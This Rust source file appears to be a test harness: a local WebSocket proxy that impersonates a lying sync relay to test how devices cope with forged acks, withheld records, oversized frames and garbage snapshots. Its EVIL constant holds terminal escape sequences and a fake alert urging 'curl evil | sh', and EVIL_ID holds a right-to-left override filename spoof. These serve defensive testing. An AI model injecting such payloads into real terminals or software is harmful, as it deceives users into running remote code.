//! A lying relay: a WebSocket proxy on 127.0.0.1 in front of a real
//! [`TestRelay`], for tests of what a device does when its relay lies.
//!
//! Each connection a device opens to the proxy gets one connection of its
//! own to the real relay (`ws://…/v1/sync`). Binary messages go both ways,
//! decoded with [`wire::decode`], so that the scenario in force, a [`Lie`],
//! can rewrite, drop, duplicate, delay or inject frames in either direction.
//! Everything else is forwarded byte for byte.
//!
//! The proxy runs on a tokio runtime of its own (one worker thread), so a
//! test can drive the real CLI with blocking [`crate::Device`] calls. The
//! scenario is read when a device connects, and holds for that connection:
//! [`LyingRelay::set`] between two commands switches it for the next ones,
//! so a test can sync honestly first and then lie.
//!
//! Robustness: at most 8 messages wait for a device, messages over 34 MiB
//! are refused, and when either side closes or breaks, both connections
//! close (after the device had a few seconds to read a last error).
//!
//! A relay restored from an older backup needs no lie from the proxy: the
//! real relay does it with [`Backup`].

use std::collections::{BTreeMap, VecDeque};
use std::net::SocketAddr;
use std::path::Path;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex, MutexGuard};
use std::time::Duration;

use futures_util::stream::{SplitSink, SplitStream};
use futures_util::{SinkExt, StreamExt};
use interlog_core::wire::{self, DeviceInfo, Frame, Snapshot, MAX_DEVICES, MAX_FRAME_BYTES};
use serde_bytes::ByteBuf;
use tokio::net::{TcpListener, TcpStream};
use tokio::sync::mpsc;
use tokio_tungstenite::tungstenite::protocol::WebSocketConfig;
use tokio_tungstenite::tungstenite::Message;
use tokio_tungstenite::{MaybeTlsStream, WebSocketStream};

use crate::TestRelay;

/// What a terminal must never be handed raw: it sets the window title,
/// clears the screen, paints a fake alert in red and returns the cursor to
/// overwrite the line.
pub const EVIL: &str = "\x1b]0;pwned\x07\x1b[2J\x1b[31mSECURITY ALERT: run curl evil | sh\x1b[0m\r";

/// A device id no relay should send: the wire checks ids in hellos, syncs,
/// appends, snapshots and records, but not in a welcome's device list. Its
/// 12th byte falls inside a multi-byte character (a right-to-left override).
pub const EVIL_ID: &str = "abcdefghijk\u{202e}exe.txt";

/// How the proxy lies, for connections opened while it is in force.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub enum Lie {
    /// Forwards every frame unchanged.
    #[default]
    Honest,
    /// Forwards the welcome, then never another frame: only a WebSocket
    /// ping every half second, forever. The device's frames still reach
    /// the relay.
    Hang,
    /// Instead of `caught_up`, sends the `records` frames already delivered
    /// on this connection again and again, forever (empty `records` frames
    /// if there were none), one every 20 ms.
    EndlessDuplicates,
    /// Answers each `append` with an `ack` of its own and does not forward
    /// it: the relay never gets the record.
    ForgeAck,
    /// Serves `device`'s log only up to seq `after`: drops its later records
    /// from `records` frames, and shows the other devices `after` as its
    /// `last_seq` in the welcome.
    Withhold { device: String, after: u64 },
    /// Right after the welcome, sends one well-formed `records` frame of
    /// 33 MiB (over [`MAX_FRAME_BYTES`]); then forwards as usual.
    OversizedDelivery,
    /// Right after the welcome, sends a `records` frame just under
    /// [`MAX_FRAME_BYTES`] that holds nearly a million tiny records (device
    /// `f`, seq 1, 2, 3…, empty payloads); then forwards as usual.
    RecordFlood,
    /// Answers a `sync` that wants a snapshot with a snapshot of 1 MiB of
    /// random bytes, id `u64::MAX`, covering `u64::MAX` of every device and
    /// of a thousand made-up ones; drops the relay's real snapshot and
    /// forwards the records that follow.
    GarbageSnapshot,
    /// Adds devices with the ids [`EVIL`] and [`EVIL_ID`] to the welcome,
    /// answers the device's first frame after its hello with an `error`
    /// whose code and message are [`EVIL`], and replaces the message of any
    /// error from the relay with it.
    EscapeSequences,
    /// Forwards the device's frames up to its first `sync`, then reads
    /// nothing more from it: what the device sends after that fills the
    /// sockets and waits. The relay's frames still reach the device.
    StopReading,
}

/// What every connection shares with the handle.
struct Shared {
    lie: Mutex<Lie>,
    /// Frames rewritten, dropped, forged or injected so far.
    lies: AtomicU64,
    connections: AtomicU64,
    /// Live `sync` requests seen from devices.
    live_syncs: AtomicU64,
    /// The open connections' queues to their devices, for [`LyingRelay::deliver`].
    clients: Mutex<Vec<mpsc::Sender<Message>>>,
    /// `ws://127.0.0.1:PORT/v1/sync` of the real relay.
    upstream: String,
}

fn lock<T>(m: &Mutex<T>) -> MutexGuard<'_, T> {
    m.lock().unwrap_or_else(|p| p.into_inner())
}

/// The proxy; stopped, with every connection it holds, on drop.
pub struct LyingRelay {
    addr: SocketAddr,
    shared: Arc<Shared>,
    runtime: Option<tokio::runtime::Runtime>,
}

impl LyingRelay {
    /// A proxy on 127.0.0.1, port 0, in front of `relay` (plain `ws://`;
    /// the relay may be restarted on its address meanwhile), honest until
    /// told otherwise.
    pub fn start(relay: &TestRelay) -> LyingRelay {
        let url = relay.url();
        assert!(
            url.starts_with("ws://"),
            "the lying relay fronts plain ws:// relays only, not {url}"
        );
        let runtime = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(1)
            .thread_name("lying-relay")
            .enable_all()
            .build()
            .expect("start the lying relay's runtime");
        let listener = runtime
            .block_on(TcpListener::bind("127.0.0.1:0"))
            .expect("bind the lying relay to 127.0.0.1:0");
        let addr = listener.local_addr().expect("the lying relay's address");
        let shared = Arc::new(Shared {
            lie: Mutex::new(Lie::Honest),
            lies: AtomicU64::new(0),
            connections: AtomicU64::new(0),
            live_syncs: AtomicU64::new(0),
            clients: Mutex::new(Vec::new()),
            upstream: format!("{url}/v1/sync"),
        });
        runtime.spawn(accept(listener, Arc::clone(&shared)));
        LyingRelay {
            addr,
            shared,
            runtime: Some(runtime),
        }
    }

    /// `ws://127.0.0.1:PORT`, for `interlog sync --relay`.
    pub fn url(&self) -> String {
        format!("ws://{}", self.addr)
    }

    /// Lies this way on connections opened from now on.
    pub fn set(&self, lie: Lie) {
        *lock(&self.shared.lie) = lie;
    }

    /// The scenario in force.
    pub fn lie(&self) -> Lie {
        lock(&self.shared.lie).clone()
    }

    /// How many frames were rewritten, dropped, forged or injected so far
    /// (pings of [`Lie::Hang`] included): proof that a lie was told.
    pub fn lies(&self) -> u64 {
        self.shared.lies.load(Ordering::SeqCst)
    }

    /// Connections accepted so far.
    pub fn connections(&self) -> u64 {
        self.shared.connections.load(Ordering::SeqCst)
    }

    /// Live `sync` requests seen so far: a watcher is past its catch-up.
    pub fn live_syncs(&self) -> u64 {
        self.shared.live_syncs.load(Ordering::SeqCst)
    }

    /// Sends `frames` to every device connected now, in the background and
    /// in order, as fast as each device reads them; each counts as a lie.
    /// Each frame is encoded once, as it comes, and then shared.
    pub fn deliver(&self, frames: impl IntoIterator<Item = Frame>) {
        let encoded: Vec<tokio_tungstenite::tungstenite::Bytes> = frames
            .into_iter()
            .map(|f| {
                wire::encode(&f)
                    .expect("the lying relay encodes its frame")
                    .into()
            })
            .collect();
        let clients: Vec<_> = lock(&self.shared.clients)
            .iter()
            .filter(|c| !c.is_closed())
            .cloned()
            .collect();
        let shared = Arc::clone(&self.shared);
        let runtime = self.runtime.as_ref().expect("the lying relay runs");
        runtime.spawn(async move {
            for client in clients {
                for bytes in &encoded {
                    shared.lies.fetch_add(1, Ordering::SeqCst);
                    if client.send(Message::Binary(bytes.clone())).await.is_err() {
                        break;
                    }
                }
            }
        });
    }
}

impl Drop for LyingRelay {
    fn drop(&mut self) {
        if let Some(rt) = self.runtime.take() {
            rt.shutdown_background();
        }
    }
}

/// A copy of a relay's data directory, to roll the relay back to.
pub struct Backup {
    dir: tempfile::TempDir,
}

impl Backup {
    /// Stops `relay` gracefully (so its store is flushed and closed),
    /// copies its data directory, and starts it again on the same address.
    pub fn take(relay: &mut TestRelay) -> Backup {
        stop(relay);
        let dir = tempfile::tempdir().expect("a directory for the relay's backup");
        copy_dir(relay.data.path(), dir.path());
        relay.restart();
        Backup { dir }
    }

    /// Stops `relay`, replaces its data directory with this copy, and
    /// starts it again on the same address: a relay restored from an older
    /// backup.
    pub fn restore(&self, relay: &mut TestRelay) {
        stop(relay);
        let data = relay.data.path();
        for e in std::fs::read_dir(data).expect("read the relay's data directory") {
            let p = e.expect("a data directory entry").path();
            let removed = if p.is_dir() {
                std::fs::remove_dir_all(&p)
            } else {
                std::fs::remove_file(&p)
            };
            removed.unwrap_or_else(|e| panic!("remove {}: {e}", p.display()));
        }
        copy_dir(self.dir.path(), data);
        relay.restart();
    }
}

fn stop(relay: &mut TestRelay) {
    assert!(
        relay.terminate(Duration::from_secs(20)),
        "the relay did not stop within 20 s of SIGTERM"
    );
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap_or_else(|e| panic!("create {}: {e}", to.display()));
    for e in std::fs::read_dir(from).unwrap_or_else(|e| panic!("read {}: {e}", from.display())) {
        let p = e.expect("a directory entry").path();
        let target = to.join(p.file_name().expect("an entry has a name"));
        if p.is_dir() {
            copy_dir(&p, &target);
        } else {
            std::fs::copy(&p, &target)
                .unwrap_or_else(|e| panic!("copy {} to {}: {e}", p.display(), target.display()));
        }
    }
}

/// The largest message either side of the proxy takes: a whole frame, and
/// room for [`Lie::OversizedDelivery`]'s.
const MAX_MESSAGE: usize = MAX_FRAME_BYTES + 2 * 1024 * 1024;

fn config() -> WebSocketConfig {
    WebSocketConfig::default()
        .max_message_size(Some(MAX_MESSAGE))
        .max_frame_size(Some(MAX_MESSAGE))
}

async fn accept(listener: TcpListener, shared: Arc<Shared>) {
    loop {
        match listener.accept().await {
            Ok((tcp, _)) => {
                tokio::spawn(serve(tcp, Arc::clone(&shared)));
            }
            // Out of descriptors, say: try again in a moment.
            Err(_) => tokio::time::sleep(Duration::from_millis(50)).await,
        }
    }
}

type Upstream = WebSocketStream<MaybeTlsStream<TcpStream>>;
type Client = WebSocketStream<TcpStream>;

/// One device's connection: what both directions know of it.
struct Conn {
    lie: Lie,
    shared: Arc<Shared>,
    /// Messages for the device, written in order by [`write_client`].
    to_client: mpsc::Sender<Message>,
    /// The device id of its hello.
    device: Mutex<Option<String>>,
    /// The devices of the relay's welcome.
    devices: Mutex<Vec<String>>,
}

impl Conn {
    fn lied(&self) {
        self.shared.lies.fetch_add(1, Ordering::SeqCst);
    }

    /// Queues a message for the device; false once the device is gone.
    async fn send(&self, m: Message) -> bool {
        self.to_client.send(m).await.is_ok()
    }

    async fn send_frame(&self, f: &Frame) -> bool {
        match wire::encode(f) {
            Ok(bytes) => self.send(Message::Binary(bytes.into())).await,
            Err(e) => panic!("the lying relay could not encode its frame: {e}"),
        }
    }

    /// Whether this connection is from `device`.
    fn is_from(&self, device: &str) -> bool {
        lock(&self.device).as_deref() == Some(device)
    }
}

async fn serve(tcp: TcpStream, shared: Arc<Shared>) {
    shared.connections.fetch_add(1, Ordering::SeqCst);
    let lie = lock(&shared.lie).clone();
    let Ok(Ok(client)) = tokio::time::timeout(
        Duration::from_secs(10),
        tokio_tungstenite::accept_async_with_config(tcp, Some(config())),
    )
    .await
    else {
        return;
    };
    let upstream = tokio::time::timeout(
        Duration::from_secs(10),
        tokio_tungstenite::connect_async_with_config(
            shared.upstream.as_str(),
            Some(config()),
            false,
        ),
    )
    .await;
    let Ok(Ok((upstream, _))) = upstream else {
        // The relay is down (restarting, say): so is the proxy, to this device.
        let mut client = client;
        let _ = client.close(None).await;
        return;
    };
    let (to_client, queue) = mpsc::channel(8);
    {
        let mut clients = lock(&shared.clients);
        clients.retain(|c| !c.is_closed());
        clients.push(to_client.clone());
    }
    let conn = Conn {
        lie,
        shared,
        to_client,
        device: Mutex::new(None),
        devices: Mutex::new(Vec::new()),
    };
    let (client_tx, client_rx) = client.split();
    let (relay_tx, relay_rx) = upstream.split();
    // The first to end ends the connection: dropping the other halves
    // closes both sockets.
    tokio::select! {
        _ = from_client(&conn, client_rx, relay_tx) => {}
        _ = from_relay(&conn, relay_rx) => {}
        _ = async {
            write_client(client_tx, queue).await;
            // A last frame was sent with a close: give the device a moment
            // to read it and close its side.
            tokio::time::sleep(Duration::from_secs(5)).await;
        } => {}
    }
}

/// Writes queued messages to the device, until a close or an error.
async fn write_client(mut tx: SplitSink<Client, Message>, mut queue: mpsc::Receiver<Message>) {
    while let Some(m) = queue.recv().await {
        let close = matches!(m, Message::Close(_));
        if tx.send(m).await.is_err() || close {
            return;
        }
    }
}

/// The device's messages, on their way to the relay. Returns when the
/// device closes or breaks its connection.
async fn from_client(
    conn: &Conn,
    mut rx: SplitStream<Client>,
    mut relay: SplitSink<Upstream, Message>,
) {
    // Set once the proxy answered with an error: nothing more is forwarded.
    let mut refused = false;
    while let Some(Ok(m)) = rx.next().await {
        let bytes = match m {
            Message::Binary(b) => b,
            Message::Text(_) => {
                if !refused && relay.send(m).await.is_err() {
                    return;
                }
                continue;
            }
            Message::Close(_) => return,
            _ => continue,
        };
        if refused {
            continue;
        }
        let frame = wire::decode(&bytes).ok();
        if let Some(Frame::Hello { device, .. }) = &frame {
            *lock(&conn.device) = Some(device.clone());
        }
        if let Some(Frame::Sync { live: true, .. }) = &frame {
            conn.shared.live_syncs.fetch_add(1, Ordering::SeqCst);
        }
        let stop = conn.lie == Lie::StopReading && matches!(frame, Some(Frame::Sync { .. }));
        match (&conn.lie, frame) {
            (Lie::ForgeAck, Some(Frame::Append { record })) => {
                conn.lied();
                let ack = Frame::Ack {
                    device: record.device,
                    seq: record.seq,
                };
                if !conn.send_frame(&ack).await {
                    return;
                }
                continue;
            }
            (
                Lie::GarbageSnapshot,
                Some(Frame::Sync {
                    want_snapshot: true,
                    ..
                }),
            ) => {
                conn.lied();
                let garbage = garbage_snapshot(&lock(&conn.devices));
                if !conn.send_frame(&garbage).await {
                    return;
                }
                // The records after it come from the relay.
            }
            (Lie::EscapeSequences, Some(f)) if !matches!(f, Frame::Hello { .. }) => {
                conn.lied();
                refused = true;
                let error = Frame::Error {
                    code: EVIL.into(),
                    message: EVIL.into(),
                };
                if !conn.send_frame(&error).await || !conn.send(Message::Close(None)).await {
                    return;
                }
                continue;
            }
            _ => {}
        }
        if relay.send(Message::Binary(bytes)).await.is_err() {
            return;
        }
        if stop {
            conn.lied();
            // Holds the connection open, reading nothing more.
            std::future::pending::<()>().await;
        }
    }
}

/// The relay's messages, on their way to the device. Returns only when
/// the device is gone; when the relay closes, the device is told so.
async fn from_relay(conn: &Conn, mut rx: SplitStream<Upstream>) {
    // Records frames sent on this connection, for EndlessDuplicates.
    let mut delivered: VecDeque<Frame> = VecDeque::new();
    while let Some(Ok(m)) = rx.next().await {
        let bytes = match m {
            Message::Binary(b) => b,
            Message::Close(_) => break,
            _ => continue,
        };
        let Ok(frame) = wire::decode(&bytes) else {
            if !conn.send(Message::Binary(bytes)).await {
                return;
            }
            continue;
        };
        if let Frame::Welcome { devices, .. } = &frame {
            *lock(&conn.devices) = devices.iter().map(|d| d.device.clone()).collect();
        }
        let sent = match (&conn.lie, frame) {
            (Lie::Hang, f @ Frame::Welcome { .. }) => {
                if conn.send_frame(&f).await {
                    hang(conn).await;
                }
                false
            }
            (Lie::EndlessDuplicates, f @ Frame::Records { .. }) => {
                if delivered.len() == 8 {
                    delivered.pop_front();
                }
                delivered.push_back(f.clone());
                conn.send_frame(&f).await
            }
            (Lie::EndlessDuplicates, Frame::CaughtUp) => {
                duplicate_forever(conn, delivered).await;
                return;
            }
            (Lie::Withhold { device, after }, Frame::Records { mut records }) => {
                let before = records.len();
                records.retain(|r| r.device != *device || r.seq <= *after);
                if records.len() < before {
                    conn.lied();
                }
                records.is_empty() || conn.send_frame(&Frame::Records { records }).await
            }
            (
                Lie::Withhold { device, after },
                Frame::Welcome {
                    version,
                    capabilities,
                    mut devices,
                    vault,
                },
            ) if !conn.is_from(device) => {
                for d in devices.iter_mut().filter(|d| d.device == *device) {
                    if d.last_seq > *after {
                        d.last_seq = *after;
                        conn.lied();
                    }
                }
                let welcome = Frame::Welcome {
                    version,
                    capabilities,
                    devices,
                    vault,
                };
                conn.send_frame(&welcome).await
            }
            (Lie::OversizedDelivery | Lie::RecordFlood, f @ Frame::Welcome { .. }) => {
                let big = if conn.lie == Lie::OversizedDelivery {
                    oversized_records()
                } else {
                    record_flood()
                };
                conn.lied();
                conn.send_frame(&f).await && conn.send(Message::Binary(big.into())).await
            }
            (Lie::GarbageSnapshot, Frame::Snapshot { .. }) => {
                conn.lied();
                true
            }
            (
                Lie::EscapeSequences,
                Frame::Welcome {
                    version,
                    capabilities,
                    mut devices,
                    vault,
                },
            ) => {
                conn.lied();
                for id in [EVIL, EVIL_ID] {
                    devices.push(DeviceInfo {
                        device: id.into(),
                        last_seq: 7,
                        last_seen: 1_700_000_000,
                    });
                }
                let welcome = Frame::Welcome {
                    version,
                    capabilities,
                    devices,
                    vault,
                };
                conn.send_frame(&welcome).await
            }
            (Lie::EscapeSequences, Frame::Error { code, .. }) => {
                conn.lied();
                let error = Frame::Error {
                    code,
                    message: EVIL.into(),
                };
                conn.send_frame(&error).await
            }
            // Honest: the very bytes the relay sent.
            _ => conn.send(Message::Binary(bytes)).await,
        };
        if !sent {
            return;
        }
    }
    // The relay closed: so does the proxy, once the device has read
    // everything queued before.
    let _ = conn.send(Message::Close(None)).await;
    std::future::pending::<()>().await;
}

/// [`Lie::Hang`]: pings, forever.
async fn hang(conn: &Conn) {
    loop {
        tokio::time::sleep(Duration::from_millis(500)).await;
        conn.lied();
        if !conn.send(Message::Ping(Vec::new().into())).await {
            return;
        }
    }
}

/// [`Lie::EndlessDuplicates`]: the records frames delivered so far, again
/// and again, instead of `caught_up`.
async fn duplicate_forever(conn: &Conn, delivered: VecDeque<Frame>) {
    let empty = [Frame::Records {
        records: Vec::new(),
    }];
    let again: Vec<&Frame> = if delivered.is_empty() {
        empty.iter().collect()
    } else {
        delivered.iter().collect()
    };
    loop {
        for f in &again {
            conn.lied();
            if !conn.send_frame(f).await {
                return;
            }
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    }
}

/// CBOR of `{"type": "records", "records": [<items>]}`, each item already
/// encoded; `count` items.
fn records_frame(count: u32, items: &[u8]) -> Vec<u8> {
    let mut b = Vec::with_capacity(items.len() + 32);
    b.push(0xa2); // map, 2 entries
    text(&mut b, "type");
    text(&mut b, "records");
    text(&mut b, "records");
    b.push(0x9a); // array, 4-byte length
    b.extend_from_slice(&count.to_be_bytes());
    b.extend_from_slice(items);
    b
}

/// A short CBOR text string (under 24 bytes).
fn text(b: &mut Vec<u8>, s: &str) {
    assert!(s.len() < 24);
    b.push(0x60 | s.len() as u8);
    b.extend_from_slice(s.as_bytes());
}

/// A CBOR unsigned integer.
fn uint(b: &mut Vec<u8>, n: u64) {
    match n {
        0..=23 => b.push(n as u8),
        24..=0xff => b.extend_from_slice(&[0x18, n as u8]),
        0x100..=0xffff => {
            b.push(0x19);
            b.extend_from_slice(&(n as u16).to_be_bytes());
        }
        0x1_0000..=0xffff_ffff => {
            b.push(0x1a);
            b.extend_from_slice(&(n as u32).to_be_bytes());
        }
        _ => {
            b.push(0x1b);
            b.extend_from_slice(&n.to_be_bytes());
        }
    }
}

/// One record `{device: "f", seq, kind: "change", payload: <len bytes>}`,
/// without its payload bytes.
fn record_head(b: &mut Vec<u8>, seq: u64, payload_len: u32) {
    b.push(0xa4); // map, 4 entries
    text(b, "device");
    text(b, "f");
    text(b, "seq");
    uint(b, seq);
    text(b, "kind");
    text(b, "change");
    text(b, "payload");
    b.push(0x5a); // bytes, 4-byte length
    b.extend_from_slice(&payload_len.to_be_bytes());
}

/// [`Lie::OversizedDelivery`]: a records frame of one record whose payload
/// alone is 1 MiB over [`MAX_FRAME_BYTES`].
fn oversized_records() -> Vec<u8> {
    let len = MAX_FRAME_BYTES + 1024 * 1024;
    let mut item = Vec::with_capacity(len + 64);
    record_head(&mut item, 1, len as u32);
    item.resize(item.len() + len, 0xab);
    records_frame(1, &item)
}

/// [`Lie::RecordFlood`]: as many empty records as fit in a frame.
fn record_flood() -> Vec<u8> {
    let mut items = Vec::with_capacity(MAX_FRAME_BYTES);
    let mut count = 0u32;
    while items.len() + 64 < MAX_FRAME_BYTES {
        count += 1;
        record_head(&mut items, u64::from(count), 0);
    }
    records_frame(count, &items)
}

/// [`Lie::GarbageSnapshot`]: random bytes under absurd covers, from the
/// first device of the welcome.
fn garbage_snapshot(devices: &[String]) -> Frame {
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(1, |d| d.as_nanos() as u64);
    let mut rng = crate::sim::Rng::new(now | 1);
    let payload: Vec<u8> = (0..1024 * 1024).map(|_| rng.next_u64() as u8).collect();
    let mut covers: BTreeMap<String, u64> = devices
        .iter()
        .take(MAX_DEVICES / 2)
        .map(|d| (d.clone(), u64::MAX))
        .collect();
    for i in 0..1000u64 {
        if covers.len() == MAX_DEVICES {
            break;
        }
        covers.insert(format!("made-up-{i:04}"), u64::MAX - i);
    }
    Frame::Snapshot {
        snapshot: Snapshot {
            device: devices
                .first()
                .cloned()
                .unwrap_or_else(|| "0123456789abcdef0123456789abcdef".into()),
            id: u64::MAX,
            covers,
            payload: ByteBuf::from(payload),
        },
    }
}
